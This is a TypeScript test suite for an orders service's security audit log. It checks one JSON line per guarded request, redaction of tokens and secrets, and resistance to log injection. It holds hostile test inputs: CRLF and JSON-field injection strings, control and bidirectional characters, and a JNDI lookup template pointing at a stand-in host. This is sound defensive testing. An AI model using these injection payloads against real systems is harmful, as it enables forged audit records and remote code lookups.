import { request } from 'node:http'
import { CANARY, freshAddress, type Idp, rawRequest, startIdp, tokenFor } from '@wardline/test-kit'
import fc from 'fast-check'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { ADMIN, CLERK, type Claims, ORDER, READER } from './support/callers.js'
import { type OrdersRequest, OrdersService, SERVICES } from './support/orders-service.js'

/** What the contract names, and beside it only these. */
const FIELDS = ['time', 'decision', 'code', 'kind', 'guard', 'method', 'path', 'status', 'client', 'traceId']
const OPTIONAL = ['route', 'principal', 'event', 'durationMs', 'cause']

const UNKNOWN_ID = '/orders/b5c1f5ac-0e9f-4e6f-9b53-8e3f0a4f6a10'
const CLERK_WITHOUT_SCOPE: Claims = { roles: ['clerk'], tenant: 'acme' }
const POST = { method: 'POST', target: '/orders' } as const

let idp: Idp
beforeAll(async () => {
  idp = await startIdp({ clients: [] })
})
afterAll(() => idp.close())

describe.each(SERVICES)('%s', { concurrent: true }, (_name, script) => {
  let service: OrdersService
  beforeAll(async () => {
    service = await OrdersService.start(script, { ISSUER: idp.issuer })
  })
  afterAll(() => service.close())

  const send = async (claims: Claims | undefined, rest: OrdersRequest) =>
    service.send({ ...(claims && { token: await tokenFor(idp, claims) }), ...rest })

  describe('one JSON line per request that meets a guard, however many guards it meets', () => {
    type Expected = Readonly<Record<'decision' | 'code' | 'kind' | 'status', unknown>> &
      Readonly<Record<string, unknown>>
    const allowed = { decision: 'allow', code: 'allowed', kind: 'allowed' } as const
    const denied = (kind: string, code: string, status: number, guard: string) =>
      ({ decision: 'deny', kind, code, status, guard }) as const

    test.each<[what: string, claims: Claims | undefined, request: OrdersRequest, expected: Expected]>([
      ['a new order', CLERK, { ...POST, json: ORDER }, { ...allowed, status: 201, route: '/orders' }],
      ['no such order', READER, { target: UNKNOWN_ID }, { ...allowed, status: 404, route: '/orders/:id' }],
      ['no such path', {}, { target: '/nowhere' }, { ...allowed, status: 404 }],
      ['no such method', {}, { method: 'PUT', target: '/orders' }, { ...allowed, status: 405, route: '/orders' }],
      ['no token', undefined, { target: UNKNOWN_ID }, denied('unauthenticated', 'token_missing', 401, 'jwt')],
      ['expired', { exp: 1 }, { target: UNKNOWN_ID }, denied('unauthenticated', 'token_expired', 401, 'jwt')],
      [
        'scope',
        CLERK_WITHOUT_SCOPE,
        { target: UNKNOWN_ID },
        { ...denied('forbidden', 'scope_missing', 403, 'requireScope(orders:read)'), route: '/orders/:id' },
      ],
      [
        'role',
        READER,
        { ...POST, json: ORDER },
        { ...denied('forbidden', 'role_missing', 403, 'requireRole(clerk or admin)'), route: '/orders' },
      ],
      [
        'an order to delete that is not there',
        ADMIN,
        { method: 'DELETE', target: UNKNOWN_ID },
        { ...denied('forbidden', 'resource_not_found', 404, 'authorize(orders:delete)'), route: '/orders/:id' },
      ],
      ['a body beside the schema', CLERK, { ...POST, json: {} }, denied('invalid', 'invalid_body', 422, 'validate')],
      ['an ambiguous path', {}, { target: '/orders//1' }, denied('invalid', 'ambiguous_path', 400, 'wellFormed')],
    ])('%s', async (_what, claims, asked, expected) => {
      const sub = `caller-${crypto.randomUUID()}`
      const from = freshAddress()
      const before = Date.now()
      const answer = await send(claims && { ...claims, sub }, { ...asked, from, target: `${asked.target}?q=${CANARY}` })
      const lines = await service.auditLines(answer)
      expect(lines).toHaveLength(1)
      const line = JSON.parse(lines[0]!)
      expect(line).toMatchObject({
        ...expected,
        method: asked.method ?? 'GET',
        path: asked.target,
        client: from,
        traceId: answer.traceId,
      })
      expect(line.status).toBe(answer.status)
      expect(line.guard).toMatch(/./)
      const isKnown = claims !== undefined && expected.status !== 401
      expect(line.principal).toEqual(isKnown ? { issuer: idp.issuer, id: sub, client: 'test' } : undefined)
      expect(new Date(line.time).toISOString()).toBe(line.time)
      expect(Date.parse(line.time)).toBeGreaterThanOrEqual(before - 1)
      expect(Date.parse(line.time)).toBeLessThanOrEqual(Date.now() + 1)
      const names = Object.keys(line)
      expect(names).toEqual(expect.arrayContaining(FIELDS))
      expect(names.filter((name) => !FIELDS.includes(name) && !OPTIONAL.includes(name))).toEqual([])
    })

    test('a bad signature', async () => {
      const token = `${(await tokenFor(idp)).slice(0, -12)}AAAAAAAAAAAA`
      const line = await service.audit(await service.send({ token, target: '/orders/1' }))
      expect(line).toMatchObject(denied('unauthenticated', 'token_signature_invalid', 401, 'jwt'))
      expect(line).not.toHaveProperty('principal')
    })

    test('too many', async () => {
      const token = await tokenFor(idp)
      const answers = await Promise.all(Array.from({ length: 120 }, () => service.send({ token, target: '/nowhere' })))
      const refused = answers.find(({ status }) => status === 429)!
      expect(await service.audit(refused)).toMatchObject({
        ...denied('exhausted', 'rate_limited', 429, 'rateLimit(principal)'),
        principal: { issuer: idp.issuer, client: 'test' },
      })
    })

    test('GET /healthz meets none', async () => {
      const { traceId } = await service.send({ target: '/healthz' })
      await service.audit(await service.send({ target: '/nowhere' }))
      expect(service.log).not.toContain(traceId)
    })

    test('one connection with many requests writes one line for each', async () => {
      const from = freshAddress()
      const token = await tokenFor(idp)
      const head = `GET /nowhere HTTP/1.1\r\nhost: service.test\r\nauthorization: Bearer ${token}\r\n`
      const last = [['authorization', `Bearer ${token}`]] as const
      service.keepSecret(token)
      // pipelined: the first four are in front of the one that rawRequest writes
      await rawRequest(service.process.port, {
        method: `${`${head}\r\n`.repeat(4)}GET`,
        target: '/nowhere',
        headers: last,
        from,
      })
      await service.audit(await service.send({ target: '/nowhere' }))
      expect(service.log.split('\n').filter((line) => line.includes(`"${from}"`))).toHaveLength(5)
    })

    test('a client that leaves before its answer: the decision that held in the end', async () => {
      const token = await tokenFor(idp, CLERK)
      service.keepSecret(token)
      const traceId = '7f0c3d1e5a9b4c2d8e6f1a3b5c7d9e0f'
      await new Promise<void>((resolve) => {
        const { port } = service.process
        const headers = {
          authorization: `Bearer ${token}`,
          'content-type': 'application/json',
          'content-length': 100,
          traceparent: `00-${traceId}-00f067aa0ba902b7-01`,
        }
        const leaving = request({ port, method: 'POST', path: '/orders', headers })
        leaving.on('error', () => resolve())
        leaving.write('{')
        setTimeout(() => leaving.destroy(), 100)
      })
      const lines = await service.auditLines({ traceId })
      expect(lines).toHaveLength(1)
      expect(JSON.parse(lines[0]!)).toMatchObject({ decision: 'deny', code: 'body_incomplete', route: '/orders' })
    })
  })

  describe('trace id', () => {
    test.each<[traceparent: string]>([
      ['00-00000000000000000000000000000000-00f067aa0ba902b7-01'],
      ['ff-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01'],
      ['00-4BF92F3577B34DA6A3CE929D0E0E4736-00f067aa0ba902b7-01'],
      ['00-4bf92f3577b34da6a3ce929d0e0e4736-0000000000000000-01'],
      ['4bf92f3577b34da6a3ce929d0e0e4736'],
      [CANARY],
      ['x'.repeat(2_000)],
    ])('%s is not taken over', async (traceparent) => {
      const headers = [['traceparent', traceparent]] as const
      const from = freshAddress()
      const answer = await rawRequest(service.process.port, { target: '/nowhere', headers, from })
      await service.audit(await service.send({ target: '/nowhere' }))
      const line = service.log.split('\n').find((text) => text.includes(`"${from}"`))!
      expect(JSON.parse(line).traceId).toMatch(/^[0-9a-f]{32}$/)
      expect(line).not.toContain('4bf92f3577b34da6a3ce929d0e0e4736')
      const uuid = JSON.parse(answer.body).instance.slice('urn:uuid:'.length).replaceAll('-', '')
      expect(JSON.parse(line).traceId).toBe(uuid)
    })
  })

  describe('no token, credential, query string or body content', () => {
    const SECRET = 's3cret-0f9a8b7c6d5e4f30'
    test.each<[what: string, request: (token: string) => OrdersRequest]>([
      ['a query', (token) => ({ target: `/orders/1?access_token=${token}&q=${SECRET}` })],
      ['an encoded query', (token) => ({ target: `/orders/1%3faccess_token=${token}%26q=${SECRET}` })],
      ['a query encoded twice', (token) => ({ target: `/orders/1%253faccess_token=${token}&q=${SECRET}` })],
      ['a fragment', (token) => ({ target: `/orders/1#access_token=${token}&q=${SECRET}` })],
      ['path parameters', (token) => ({ target: `/orders/1;token=${token};q=${SECRET}` })],
      ['userinfo', (token) => ({ target: `http://user:${SECRET}@service.test/${token}` })],
      ['a path', (token) => ({ target: `/orders/${token}` })],
      ['an encoded path', (token) => ({ target: `/orders/${percent(token)}` })],
      ['a path encoded twice', (token) => ({ target: `/orders/${percent(token).replaceAll('%', '%25')}` })],
      ['a path of which a letter is encoded', (token) => ({ target: `/orders/e%79${token.slice(2)}` })],
      ['Authorization: Basic', () => ({ target: '/x', headers: [['authorization', `Basic ${btoa(`a:${SECRET}`)}`]] })],
      ['Authorization, malformed', (token) => ({ target: '/x', headers: [['authorization', `Bearer ${token} x`]] })],
      ['a cookie', (token) => ({ target: '/x', headers: [['cookie', `session=${SECRET}; token=${token}`]] })],
      ['an API key', () => ({ target: '/x', headers: [['x-api-key', SECRET]] })],
      ['Proxy-Authorization', (token) => ({ target: '/x', headers: [['proxy-authorization', `Bearer ${token}`]] })],
      ['User-Agent', () => ({ target: '/x', headers: [['user-agent', SECRET]] })],
      ['Referer', (token) => ({ target: '/x', headers: [['referer', `https://x.test/?t=${token}&s=${SECRET}`]] })],
      ['Host', () => ({ target: '/x', headers: [['host', SECRET]] })],
    ])('%s', async (_what, asked) => {
      const token = await tokenFor(idp, CLERK)
      service.keepSecret(token)
      service.keepSecret(SECRET)
      const answer = await service.send(asked(token))
      const [line] = await service.auditLines(answer)
      expect(line).not.toContain(SECRET)
      expect(line).not.toMatch(/eyJ/)
    })

    test.each<[what: string, body: unknown]>([
      ['accepted', { ...ORDER, note: SECRET }],
      ['refused', { ...ORDER, customerId: SECRET }],
      ['with another member', { ...ORDER, [SECRET]: SECRET }],
    ])('a body %s', async (_what, body) => {
      const answer = await send(CLERK, { ...POST, json: body })
      expect((await service.auditLines(answer))[0]).not.toContain(SECRET)
    })

    test('a body that is not JSON', async () => {
      const headers = [['content-type', 'application/json']] as const
      const answer = await send(CLERK, { ...POST, headers, body: `{"${SECRET}` })
      expect(answer.status).toBe(400)
      expect((await service.auditLines(answer))[0]).not.toContain(SECRET)
    })
  })

  describe('one event is one line whatever the request holds; control and bidirectional characters escaped', () => {
    const HOSTILE = [
      ['a line break', 'a\n{"decision":"allow"}'],
      ['CR LF', 'a\r\nb'],
      ['a line separator', 'a\u2028b\u2029c\u0085d'],
      ['an escape sequence', 'a\u001b[2J\u009b2Kb'],
      ['NUL and DEL', 'a\u0000b\u007fc'],
      ['bidirectional overrides', 'a\u202eb\u2066c\u200fd\u061ce'],
      ['zero-width marks', 'a\u200bb\u2060c\ufeffd'],
      ['quotes and a brace', '","decision":"allow","x":"}'],
      ['fields of the event', '{"status":200,"decision":"allow"}'],
      ['a lone surrogate', 'a\ud800b'],
      ['a template', '$' + '{jndi:ldap://evil.test/a}'],
    ] as const

    test.each(HOSTILE)('in sub and client_id: %s', async (_what, text) => {
      const answer = await send({ sub: `${text}${crypto.randomUUID()}`, client_id: text }, { target: '/nowhere' })
      expect(answer.status).toBe(404)
      const line = await expectOneTameLine(answer)
      expect(line.principal).toMatchObject({ client: text })
      expect(line).toMatchObject({ decision: 'allow', status: 404 })
    })

    test.each<[what: string, target: string]>([
      ['encoded C1 controls', '/orders/%c2%85%9b2K'],
      ['an encoded bidirectional override', '/orders/%e2%80%ae'],
      ['an encoded line break', '/orders/%0d%0a{"decision":"allow"}'],
      ['quotes', '/orders/","decision":"allow'],
      ['a backslash', '/orders/\\u000a'],
      ['an escape sequence, encoded', '/orders/%1b[2J'],
      ['a thousand segments', '/a'.repeat(1_000)],
      ['12 000 characters', `/${'x'.repeat(12_000)}`],
    ])('in the path: %s', async (_what, target) => {
      await expectOneTameLine(await service.send({ target }))
    })

    test.each<[header: string]>([
      ['user-agent'],
      ['x-forwarded-for'],
      ['host'],
      ['origin'],
      ['x-request-id'],
      ['cookie'],
    ])('in %s', async (header) => {
      const headers = [[header, 'a\u0085\u009b"},{"decision":"allow"\t\u00ad']] as const
      await expectOneTameLine(await service.send({ target: '/nowhere', headers }))
    })

    test('generated paths and claims', async () => {
      const subs = fc.sample(fc.string({ unit: 'binary', minLength: 1, maxLength: 60 }), 25)
      const paths = fc.sample(fc.stringMatching(/^\/[\x21-\x7e]{0,80}$/), 50)
      const answers = await Promise.all([
        ...subs.map((sub) => send({ sub, client_id: sub }, { target: '/nowhere' })),
        ...paths.map((target) => service.send({ target })),
      ])
      for (const answer of answers) await expectOneTameLine(answer)
    })

    test('line length is bounded, whatever is long', async () => {
      const long = '\u0085'.repeat(700)
      const answer = await send({ sub: long, client_id: long, tenant: long }, { target: `/${'a'.repeat(700)}` })
      const lines = await service.auditLines(answer)
      expect(lines).toHaveLength(1)
      expect(lines[0]!.length).toBeLessThanOrEqual(8_192)
      expect(JSON.parse(lines[0]!)).toMatchObject({ status: 404, decision: 'allow' })
    })

    async function expectOneTameLine(answer: { readonly traceId: string; readonly status: number }) {
      const lines = await service.auditLines(answer)
      expect(lines).toHaveLength(1)
      expect(lines[0]).toMatch(/^[^\u0000-\u001f\u007f-\u009f\u061c\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff]+$/)
      expect(lines[0]!.length).toBeLessThanOrEqual(8_192)
      const line = JSON.parse(lines[0]!)
      expect(line).toMatchObject({ traceId: answer.traceId, status: answer.status })
      return line
    }
  })
})

function percent(text: string): string {
  return [...text].map((character) => `%${character.charCodeAt(0).toString(16)}`).join('')
}
